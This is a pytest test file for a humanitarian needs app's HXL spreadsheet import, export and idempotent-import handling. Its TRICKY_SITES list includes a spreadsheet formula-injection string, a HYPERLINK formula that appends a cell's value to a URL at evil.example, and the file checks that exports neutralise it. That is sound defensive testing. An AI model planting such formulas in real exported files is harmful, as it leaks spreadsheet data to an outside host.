"""HXL in and out: reading CSV and XLSX with libhxl, the import rules on fakes, the export."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import hxl
import openpyxl
import pytest
from kitflow_needs.adapters.hxl_io import export_header, export_rows, read_needs_file
from kitflow_needs.cli import _print_report
from kitflow_needs.domain.errors import RequestInProgress, UnreadableFile
from kitflow_needs.domain.need import DisplacementStatus, Need
from kitflow_needs.handlers.imports import (
    IMPORT_KEYS_RETENTION,
    IMPORT_LEASE,
    IN_PROGRESS_RETRY_AFTER_S,
    ImportHandlers,
    ImportOptions,
    ImportReport,
    RowError,
)
from kitflow_needs.handlers.needs import CreateNeed, NeedHandlers
from kitflow_needs.handlers.ports import Actor, NeedsServices
from kitflow_shared.contracts.needs import NEED_SUBMITTED
from kitflow_shared.events import EventContext
from kitflow_shared.request_keys import IdempotencyKeyReused, RequestKey
from kitflow_shared.spreadsheet import FORMULA_PREFIXES

from tests.unit.needs.builders import need_input
from tests.unit.needs.fakes import FakeNeedRepository, SteppingClock, services
from tests.unit.needs.hxl_samples import FIRST_DATA_ROW, generate

NRC = Actor(user="lars", organisation="NRC")

SMALL = """Ref,Admin1,Admin2,Site,Households,People,Status,Severity,Assessed,Item,Qty
#meta+id,#adm1+code,#adm2+code,#loc+name,#affected+hh,#affected+ind,#beneficiary+type,#severity,#date+reported,#item+code,#item+num
A1,ML05,ML0501,Sévaré 2,120,640,PDI,4,2025-03-01,KIT-NFI,120
A2,ML-5,ML0501,Sévaré 3,10,50,idp,3,2025-03-01,KIT-NFI,10
A3,ML06,ML0601,Abaradjou,-4,50,returnee,2,01/03/2025,BLANKET,3
"""


def test_a_csv_is_read_by_hashtags_whatever_its_headers() -> None:
    sheet = read_needs_file(SMALL.encode(), organisation="NRC")
    assert [r.row for r in sheet.rows] == [3, 4, 5]
    first = sheet.rows[0].given
    assert first is not None
    assert first.admin2_pcode == "ML0501"
    assert first.population.households == 120
    assert first.displacement is DisplacementStatus.IDP
    assert first.items == (("KIT-NFI", 120),)
    assert sheet.rows[0].column_of("population.households") == "#affected+hh"
    third = sheet.rows[2].given
    assert third is not None
    assert third.assessment.assessed_on.isoformat() == "2025-03-01"


def test_an_xlsx_workbook_is_read_the_same_way() -> None:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    for line in csv.reader(io.StringIO(SMALL)):
        sheet.append([int(v) if v.lstrip("-").isdigit() else v for v in line])
    buffer = io.BytesIO()
    workbook.save(buffer)
    read = read_needs_file(buffer.getvalue(), organisation="NRC")
    assert len(read.rows) == 3
    assert read.rows[0].given is not None
    assert read.rows[0].given.population.individuals == 640


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", "empty"),
        (b"name,households\nSevare,120\n", "not an HXL file"),
        (b"\x89PNG\r\n\x1a\n\x00\x00garbage", "not an HXL file"),
        (b"A,B\n#adm1+code,#adm2+code\nML05,ML0501\n", "missing required HXL columns"),
    ],
)
def test_a_file_that_cannot_be_imported_is_refused_whole(data: bytes, reason: str) -> None:
    with pytest.raises(UnreadableFile, match=reason):
        read_needs_file(data, organisation="NRC")


async def test_bad_rows_are_reported_by_row_and_column_and_good_rows_imported() -> None:
    repo = FakeNeedRepository()
    svc = services(repo)
    sheet = read_needs_file(SMALL.encode(), organisation="NRC")
    report = await ImportHandlers(svc).import_needs(
        sheet.rows, ImportOptions(), NRC, EventContext.new()
    )
    assert (report.rows, report.imported, report.rejected) == (3, 1, 2)
    assert [(e.row, e.column) for e in report.errors] == [
        (4, "#adm1+code"),
        (5, "#affected+hh"),
    ]
    assert "ISO 3166-2" in report.errors[0].reason
    assert len(repo.rows) == 1
    [event] = repo.published
    assert NEED_SUBMITTED.parse(event).site_name == "Sévaré 2"


async def test_importing_the_same_file_again_changes_nothing() -> None:
    repo = FakeNeedRepository()
    svc = services(repo)
    sample = generate(300, seed=3)
    rows = read_needs_file(sample.text.encode(), organisation="NRC").rows
    first = await ImportHandlers(svc).import_needs(rows, ImportOptions(), NRC, EventContext.new())
    assert first.imported == sample.good_rows
    assert {e.row: e.column for e in first.errors} == sample.bad_rows
    events = len(repo.published)
    second = await ImportHandlers(svc).import_needs(rows, ImportOptions(), NRC, EventContext.new())
    assert (second.imported, second.updated, second.unchanged) == (0, 0, sample.good_rows)
    assert len(repo.published) == events
    assert len(repo.rows) == sample.good_rows


async def test_a_row_with_a_known_reference_and_new_values_updates_its_need() -> None:
    repo = FakeNeedRepository()
    svc = services(repo)
    await ImportHandlers(svc).import_needs(
        read_needs_file(SMALL.encode(), organisation="NRC").rows,
        ImportOptions(),
        NRC,
        EventContext.new(),
    )
    changed = SMALL.replace("Sévaré 2,120,640", "Sévaré 2,130,700")
    report = await ImportHandlers(svc).import_needs(
        read_needs_file(changed.encode(), organisation="NRC").rows,
        ImportOptions(),
        NRC,
        EventContext.new(),
    )
    assert (report.imported, report.updated, report.unchanged) == (0, 1, 0)
    [need] = repo.rows.values()
    assert need.need.details.population.households == 130


async def test_rows_of_another_organisation_and_repeated_references_are_refused() -> None:
    text = (
        "#meta+id,#org+code,#adm1+code,#adm2+code,#inneed+hh,#inneed+ind,#beneficiary+type,"
        "#severity,#date+assessed,#item+code,#item+num\n"
        "X1,DRC,ML05,ML0501,10,50,idp,3,2025-03-01,KIT-NFI,10\n"
        "X2,NRC,ML05,ML0501,10,50,idp,3,2025-03-01,KIT-NFI,10\n"
        "X2,NRC,ML05,ML0501,11,50,idp,3,2025-03-01,BLANKET,10\n"
    )
    report = await ImportHandlers(services()).import_needs(
        read_needs_file(text.encode(), organisation="NRC").rows,
        ImportOptions(),
        NRC,
        EventContext.new(),
    )
    assert report.imported == 1
    reasons = {e.row: (e.column, e.reason) for e in report.errors}
    assert reasons[2][0] == "#org+code"
    assert "one #meta+id is one need" in reasons[4][1]


async def test_rows_without_items_take_the_profile_named_for_the_import() -> None:
    text = (
        "#adm1+code,#adm2+code,#inneed+hh,#inneed+ind,#beneficiary+type,#severity,#date+assessed\n"
        "ML05,ML0501,10,50,idp,3,2025-03-01\n"
    )
    repo = FakeNeedRepository()
    report = await ImportHandlers(services(repo)).import_needs(
        read_needs_file(text.encode(), organisation="NRC").rows,
        ImportOptions(profile_id="mali-abri-nomadique"),
        NRC,
        EventContext.new(),
    )
    assert report.imported == 1
    [stored] = repo.rows.values()
    assert stored.need.details.requested() == {
        "KIT-SHELTER-TOOLS": 10,
        "KIT-SHELTER-MATERIALS": 10,
        "KIT-NFI": 10,
    }


async def test_the_export_is_hxl_one_row_per_need_and_item_and_reads_back() -> None:
    repo = FakeNeedRepository()
    svc = services(repo)
    await ImportHandlers(svc).import_needs(
        read_needs_file(SMALL.encode(), organisation="NRC").rows,
        ImportOptions(),
        NRC,
        EventContext.new(),
    )
    needs = [s.need for s in repo.rows.values()]
    text = export_header() + export_rows(needs, svc.catalogue.current())
    dataset = hxl.data(io.BufferedReader(io.BytesIO(text.encode())))
    rows = list(dataset)
    assert len(rows) == 1
    assert rows[0].get("#adm2+code") == "ML0501"
    assert rows[0].get("#item+num+requested") == "120"
    assert rows[0].get("#item+num+remaining") == "120"
    again = read_needs_file(text.encode(), organisation="NRC")
    assert again.rows[0].given is not None
    assert again.rows[0].given.items == (("KIT-NFI", 120),)


def test_sample_rows_are_numbered_as_a_spreadsheet_shows_them() -> None:
    sample = generate(10, bad_every=5)
    assert sorted(sample.bad_rows) == [2 + FIRST_DATA_ROW, 7 + FIRST_DATA_ROW]


# Text a partner may type that a spreadsheet would take for a formula, and text that only looks
# like our neutralised form: each must leave the export as text and come back as it went out.
TRICKY_SITES = [
    '=HYPERLINK("http://evil.example/?"&A1,"Sévaré")',
    "+223 camp",
    "-Sévaré",
    "@SUM(A1)",
    "'=already quoted",
    "''+twice",
    "Sévaré's 'camp'",
]


async def _need_named(svc: NeedsServices, site: str) -> Need:
    created = await NeedHandlers(svc).create_need(
        CreateNeed(need_input(site_name=site, external_ref=f"ref {site}")),
        NRC,
        EventContext.new(),
    )
    return created.need


async def test_every_exported_text_cell_stays_text_and_reads_back_as_it_was() -> None:
    svc = services()
    needs = [await _need_named(svc, site) for site in TRICKY_SITES]
    text = export_header() + export_rows(needs, svc.catalogue.current())
    _, tags, *rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for tag, cell in zip(tags, row, strict=True):
            try:
                float(cell)
            except ValueError:
                assert not cell.startswith(FORMULA_PREFIXES), (tag, cell)
    site = tags.index("#loc+name")
    assert rows[0][site] == "'" + TRICKY_SITES[0]
    assert rows[-1][site] == TRICKY_SITES[-1]

    again = read_needs_file(text.encode(), organisation="NRC")
    assert [r.given.site_name for r in again.rows if r.given] == TRICKY_SITES


async def test_a_need_computed_from_a_profile_reads_back_from_its_export() -> None:
    svc = services()
    created = await NeedHandlers(svc).create_need(
        CreateNeed(need_input(items=(), profile_id="sphere-minimum")), NRC, EventContext.new()
    )
    text = export_header() + export_rows([created.need], svc.catalogue.current())
    assert "sphere-minimum@1" in text
    repo = FakeNeedRepository()
    report = await ImportHandlers(services(repo)).import_needs(
        read_needs_file(text.encode(), organisation="NRC").rows,
        ImportOptions(),
        NRC,
        EventContext.new(),
    )
    assert (report.imported, report.errors) == (1, [])
    [stored] = repo.rows.values()
    assert stored.need.details.requested() == created.need.details.requested()


def test_the_clis_errors_csv_keeps_every_cell_text(tmp_path: Path) -> None:
    report = ImportReport(
        rows=2,
        errors=[
            RowError(3, "#item+code", '=HYPERLINK("http://x") is listed twice'),
            RowError(4, "#geo+lat", "-95.0, 4.0 are not coordinates"),
        ],
    )
    out = tmp_path / "errors.csv"
    _print_report(report, out)
    with out.open(newline="") as written:
        rows = list(csv.reader(written))
    assert rows == [
        ["row", "column", "reason"],
        ["3", "#item+code", '\'=HYPERLINK("http://x") is listed twice'],
        ["4", "#geo+lat", "'-95.0, 4.0 are not coordinates"],
    ]


# ---- Idempotency-Key on an import (ADR 0015) -------------------------------------------------

IMPORT_KEY = RequestKey("NRC", "import-0001", "the file")


async def test_a_keyed_import_runs_once_and_its_retry_answers_with_its_report() -> None:
    svc = services()
    runs: list[int] = []

    async def run() -> ImportReport:
        runs.append(1)
        return ImportReport(rows=2, imported=2, errors=[RowError(3, "#severity", "bad")])

    first = await ImportHandlers(svc).import_once(IMPORT_KEY, run)
    again = await ImportHandlers(svc).import_once(IMPORT_KEY, run)
    assert (first.replayed, again.replayed, len(runs)) == (False, True, 1)
    assert again.report == first.report
    with pytest.raises(IdempotencyKeyReused):
        await ImportHandlers(svc).import_once(RequestKey("NRC", "import-0001", "another file"), run)
    # Another organisation's same key is another request.
    assert not (
        await ImportHandlers(svc).import_once(RequestKey("DRC", "import-0001", "the file"), run)
    ).replayed


async def test_a_copy_of_a_running_import_is_told_to_retry_until_the_lease_ends() -> None:
    svc = services()
    clock = svc.clock
    assert isinstance(clock, SteppingClock)
    await svc.import_requests.claim(IMPORT_KEY, clock.now())  # a first copy, still running

    async def run() -> ImportReport:
        return ImportReport(rows=1, imported=1)

    with pytest.raises(RequestInProgress) as waiting:
        await ImportHandlers(svc).import_once(IMPORT_KEY, run)
    assert waiting.value.retry_after_s == IN_PROGRESS_RETRY_AFTER_S
    # Its process died: after the lease, a retry takes the key over and runs the file again.
    clock.current += IMPORT_LEASE
    assert not (await ImportHandlers(svc).import_once(IMPORT_KEY, run)).replayed
    assert (await ImportHandlers(svc).import_once(IMPORT_KEY, run)).replayed


async def test_an_import_that_failed_or_imported_nothing_forgets_its_key() -> None:
    svc = services()

    async def store_gone() -> ImportReport:
        raise RuntimeError("the store went away")

    async def every_row_bad() -> ImportReport:
        return ImportReport(rows=1, errors=[RowError(2, "#severity", "bad")])

    with pytest.raises(RuntimeError):
        await ImportHandlers(svc).import_once(IMPORT_KEY, store_gone)
    assert not (await ImportHandlers(svc).import_once(IMPORT_KEY, every_row_bad)).replayed
    assert not (await ImportHandlers(svc).import_once(IMPORT_KEY, every_row_bad)).replayed
    assert svc.import_requests.rows == {}  # type: ignore[attr-defined]


async def test_keys_of_old_imports_are_forgotten() -> None:
    svc = services()

    async def run() -> ImportReport:
        return ImportReport(rows=1, imported=1)

    await ImportHandlers(svc).import_once(IMPORT_KEY, run)
    clock = svc.clock
    assert isinstance(clock, SteppingClock)
    clock.current += IMPORT_KEYS_RETENTION
    assert await ImportHandlers(svc).forget_old_import_keys() == 1
    assert not (await ImportHandlers(svc).import_once(IMPORT_KEY, run)).replayed
